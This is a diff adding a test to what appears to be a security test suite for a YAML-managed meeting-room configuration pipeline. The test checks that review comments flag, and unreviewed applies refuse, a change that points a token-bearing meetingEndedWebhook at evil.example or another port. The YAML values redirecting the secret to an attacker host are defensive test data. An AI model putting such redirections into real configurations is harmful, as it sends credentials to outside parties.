@@ -100,6 +100,33 @@ def a_host_among_too_many(s):
     return where
 
 
+@attack("12", "a fork", "a secret that is applied already, and is to go elsewhere, beside a line that harms nobody")
+def a_host_that_moves(s):
+    hook, token = "meetingEndedWebhook: https://{}/${{env:ROOM_TICKETS_TOKEN}}\n", "${env:ROOM_TICKETS_TOKEN}"
+    room = lambda host: "privacy: private\n" + hook.format(host)
+    before = {"rooms/hook.yaml": room("hooks.example.com"), "rooms/lit.yaml": room("hooks.example.com").replace(token, "x")}
+    before |= {"rooms/below/_defaults.yaml": hook.format("hooks.example.com"), "rooms/below/deep.yaml": "maxParticipants: 3\n"}
+    check(s.apply(s.merge(s.pull_request(before, who="colleague"))), s.runner.log)
+    here, more = s.main(), "joinVideoOn: true\n"
+    for name, text, said in (
+        ("hook", room("evil.example"), "evil.example"),
+        ("hook", room("hooks.example.com:6666"), "hooks.example.com:6666"),
+        ("hook", room("hooks.example.com").replace("TICKETS", "OTHER"), "ROOM_OTHER_TOKEN"),
+        ("lit", room("evil.example"), "evil.example"),
+        ("below/_defaults", hook.format("evil.example"), "evil.example"),
+    ):
+        pull = s.pull_request({f"rooms/{name}.yaml": text + more})
+        check(said in s.comment_of(pull) and "meetingEndedWebhook" in s.comment_of(pull), s.comment_of(pull))
+    # In two steps: merged without a plan, it is in the comment of whoever changes the room next, and not sent by another's plan.
+    s.straight_to_main({"rooms/hook.yaml": room("evil.example")})
+    check(s.apply(s.main()) is False and "evil.example" not in s.room("hook"), s.room("hook"))
+    stopped = refused(s, 4, "hook: no reviewed plan has it")
+    pull = s.pull_request({"rooms/hook.yaml": room("evil.example") + more}, who="colleague")
+    check("evil.example" in s.comment_of(pull), s.comment_of(pull))
+    s.go_on(here)
+    return f"{stopped}; and shown by comment.yml"
+
+
 # --- 2: what the configuration moves
 
 
